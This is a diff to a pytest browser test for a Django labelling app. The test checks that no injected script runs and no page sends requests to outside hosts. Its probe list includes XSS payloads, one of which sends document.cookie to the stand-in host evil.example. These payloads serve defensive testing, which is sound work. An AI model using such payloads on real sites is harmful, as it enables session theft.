@@ -10,6 +10,7 @@ from annotations.labels.actions import submit_label
 from bank.models import Capability, Sample
 from tests.access.test_routes import TABLE
 from tests.access.world import PUBLIC, routes
+from tests.browser.conftest import opened
 
 pytestmark = pytest.mark.django_db(transaction=True)
 RUN = ("xss()", "window.parent.xss()", "top['x'+'ss']()", "fetch('//evil.example/'+document.cookie)")
@@ -106,9 +107,7 @@ def test_there_are_a_hundred():
 
 
 @pytest.mark.check("D4")
-def test_no_script_runs_and_nothing_is_asked_of_another_host(
-    world, people, client_of, live_server, browser, sign_in, faults
-):
+def test_no_script_runs_and_nothing_is_asked_of_another_host(world, people, live_server, browser, sign_in, faults):
     submit_label(
         assignment=world.assignments[PUBLIC],
         verdict={"choice": "left"},
@@ -127,15 +126,14 @@ def test_no_script_runs_and_nothing_is_asked_of_another_host(
         page.on("request", lambda one: outside.append(one.url) if not one.url.startswith(live_server.url) else None)
         page.on("dialog", lambda dialog: dialog.dismiss())
         page.expose_function("xss", lambda: outside.append("a script ran"))
-        client = client_of(role)
         for name, path in addresses(world, role):
-            answer = client.get(path)
-            if not name.startswith(only) or answer.status_code == 405:
+            if not name.startswith(only):
                 continue
-            assert answer.status_code < 500, name
-            if answer.status_code != 200 or not answer.headers["Content-Type"].startswith("text/html"):
+            complaints.clear()
+            answer = opened(page, live_server.url + path)
+            if not (answer and answer.ok):
+                assert not answer or answer.status < 500, name
                 continue
-            page.goto(live_server.url + path, wait_until="load")
             assert page.evaluate(CHECK) == [], name
             assert [line for line in complaints if "katex" not in line.lower()] == [], name
             seen += 1
